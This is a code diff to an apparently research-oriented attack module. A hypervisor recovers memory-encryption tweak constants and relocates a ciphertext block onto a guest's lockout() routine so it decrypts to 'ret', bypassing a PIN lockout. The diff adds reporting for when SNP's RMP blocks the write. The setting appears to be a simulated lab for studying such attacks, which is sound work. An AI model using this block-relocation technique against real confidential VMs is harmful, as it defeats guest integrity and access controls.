@@ -17,6 +17,7 @@ from hv.attacks.outcome import Outcome
 from hv.attacks.secrets import fresh_secret
 from hv.attacks.tweak_solver import Unsolvable, recover_constants, tweak
 from hv.hw.machine import TweakMode
+from hv.kvm import RmpViolation
 
 __all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run"]
 
@@ -33,9 +34,9 @@ def _pattern(t: int) -> bytes:
     return t.to_bytes(4, "little") * 4
 
 
-def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, int] | None:
+def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, int, str] | None:
     """Move a known-plaintext image block onto `target_gpa` so its first byte decrypts to RET.
-    Returns (source GPA, delta) or None."""
+    Returns (source GPA, delta, "" or why the write was refused) or None."""
     xex = lab.machine.tweak_mode() is not TweakMode.XE_LINEAR
     p = lab.spa(target_gpa)
     for gpa, data in boot.image_regions(lab.image, lab.config.mem_size):
@@ -49,8 +50,11 @@ def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, i
             cells = lab.vm.read_gpa(src, 16)
             if xex:
                 cells = bytes(x ^ y for x, y in zip(cells, _pattern(delta)))
-            lab.vm.write_gpa(target_gpa, cells)
-            return src, delta
+            try:
+                lab.vm.write_gpa(target_gpa, cells)
+            except RmpViolation as e:  # SNP: the hypervisor cannot write a guest page at all
+                return src, delta, str(e)
+            return src, delta, ""
     return None
 
 
@@ -79,7 +83,10 @@ def run(mode: str, *, tweak_mode: TweakMode = TweakMode.XEX_LINEAR) -> Outcome:
     head = f"{tweak_mode.value}: recovered t4..t{max(constants)} with the host key ({shown}, ...)"
     if planted is None:
         return Outcome(ID, mode, "failed", f"{head}; no image block gives a 'ret' at lockout()")
-    src, delta = planted
+    src, delta, refused = planted
+    if refused:
+        return Outcome(ID, mode, "failed", f"{head}; the block for lockout() at {target:#x} was "
+                                           f"found at GPA {src:#x}, but writing it faulted: {refused}")
     locked = LOCKED in statuses
     tail = (f"moved the block at GPA {src:#x} onto lockout() at {target:#x} (delta {delta:#010x}) "
             f"-> 'ret'; after 5 wrong PINs the guest " + ("still locked" if locked else "never locked"))
